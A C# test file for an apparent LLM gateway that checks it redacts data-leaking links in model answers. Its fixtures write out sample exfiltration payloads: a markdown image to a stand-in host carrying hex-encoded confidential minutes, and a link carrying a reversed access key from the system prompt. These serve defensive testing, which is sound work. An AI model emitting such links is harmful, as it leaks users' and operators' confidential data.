using System.Text;
using Cordon.Contracts;
using Cordon.Detection;
using Cordon.Gateway.Judging;

namespace Cordon.Gateway.Tests.Relay;

/// <summary>What a session holds does not leave in an address, neither of this turn nor of an earlier one, however an answer is cut.</summary>
public sealed class HeldContentTests
{
    private const string Balanced = "version: 1\npreset: balanced\n";
    private const string Document = "Minutes: the plant in Leeds will be closed before Easter, and the staff will be told in March.";
    private const string Taken = "the plant in Leeds will be closed before Easter";

    private static readonly string Image = $"![](https://img.x.example/p.png?d={Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Taken))})";

    public static TheoryData<string> Paths => [.. Streams.Paths];

    [Theory]
    [MemberData(nameof(Paths))]
    public async Task What_the_conversation_holds_leaves_in_no_address_however_the_stream_is_cut(string path)
    {
        using RelayBench bench = new(Balanced) { Session = "one" };
        for (int size = 1; size < 12; size += 5)
        {
            string[] pieces = [.. ("Here you are. " + Image + " That is all.").Chunk(size).Select(piece => new string(piece))];
            Relayed relayed = await bench.StreamAsync(path, Streams.Ask(path, Document), Streams.Text(path, pieces));
            Assert.Null(relayed.Refused);
            Assert.Contains("Here you are. ![]([REDACTED:exfiltration]) That is all.", Read.Joined(relayed.Bytes), StringComparison.Ordinal);
            Assert.DoesNotContain("img.x.example", Encoding.UTF8.GetString(relayed.Bytes), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task What_an_earlier_turn_held_is_known_in_a_later_one_of_the_same_session_and_in_no_other()
    {
        SessionContents contents = new();
        using RelayBench one = new(Balanced) { Session = "one", Contents = contents };
        using RelayBench other = new(Balanced) { Session = "other", Contents = contents };
        await one.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, Document), Streams.Text(Streams.Chat, ["Read."]));

        // What the user wrote may be looked for in plain words; nobody needs it encoded.
        string stream = Streams.Text(Streams.Chat, [Image]);
        Assert.Contains((await one.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, "And now?"), stream)).Findings, finding => finding is { Guard: "session-content", Rule: "session-encoded" });
        Assert.DoesNotContain((await other.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, "And now?"), stream)).Findings, finding => finding.Guard == "session-content");
    }

    [Fact]
    public async Task A_secret_of_the_operator_is_found_in_an_address_by_itself()
    {
        using RelayBench bench = new(Balanced) { Session = "one" };
        string key = "AKIA" + "QX7RTPLM3ZKWV5NC";
        string request = $$$"""{"model":"m","messages":[{"role":"system","content":"The key is {{{key}}}. Keep it."},{"role":"user","content":"Hello"}]}""";
        string answer = $$$"""{"id":"c","choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":"[x](https://x.example/{{{new string([.. key.Reverse()])}}})"}}]}""";
        Relayed relayed = await bench.JsonAsync(Streams.Chat, request, answer);
        Assert.Contains(relayed.Findings, finding => finding is { Rule: "session-secret", Severity: Severity.Critical });
        Assert.Contains("[x]([REDACTED:exfiltration])", Encoding.UTF8.GetString(relayed.Bytes), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_answer_without_an_address_goes_on_as_it_came()
    {
        using RelayBench bench = new(Balanced) { Session = "one" };
        string stream = Streams.Text(Streams.Chat, ["The plant in Leeds ", "will be closed before Easter."]);
        Relayed relayed = await bench.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, Document), stream);
        Assert.Equal(stream, Encoding.UTF8.GetString(relayed.Bytes));
        Assert.Contains(relayed.Coverage, entry => entry is { Guard: "session-content", Surface: Surface.Assistant, State: CoverageState.Inspected });
    }

    [Fact]
    public void Sessions_are_forgotten_when_they_are_too_many_and_one_keeps_what_was_said_last()
    {
        SessionContents contents = new(bytes: 100_000);
        contents.Keep("first", [Text("a", 0)]);
        for (int i = 0; i < 300; i++)
        {
            contents.Keep($"session {i}", [Text("b", i)]);
            Assert.InRange(contents.Bytes, 1, 100_000);
        }

        Assert.Empty(contents.Of("first"));
        Assert.Single(contents.Of("session 299"));

        SessionContents one = new();
        for (int i = 0; i < 40; i++)
        {
            one.Keep("long", [Text("c", i, length: 600)]);
            Assert.InRange(one.Of("long").Sum(content => content.Count), 1, SessionContents.MostHashes);
        }
    }

    [Fact]
    public void A_history_that_comes_again_is_held_once_until_there_are_too_many_texts()
    {
        SessionContents contents = new();
        HeldText[] history = [.. Enumerable.Range(0, 50).Select(i => Text("h", i))];
        contents.Keep("s", history);
        int held = contents.Of("s").Sum(content => content.Count);
        contents.Keep("s", [.. history, Text("new", 1)]);
        Assert.Equal(2, contents.Of("s").Length);
        Assert.True(contents.Of("s")[1].Count < held / 10);

        contents.Keep("s", Enumerable.Range(0, SessionContents.MostTexts + 1).Select(i => Text("many", i)));
        Assert.InRange(contents.Bytes, 1, SessionContents.UsualBytes);
    }

    private static HeldText Text(string word, int number, int length = 20) =>
        new(Surface.Document, string.Join(' ', Enumerable.Range(0, length).Select(i => $"{word}{number * 7919 % 1000} says {i * 31 % 977}")), []);
}
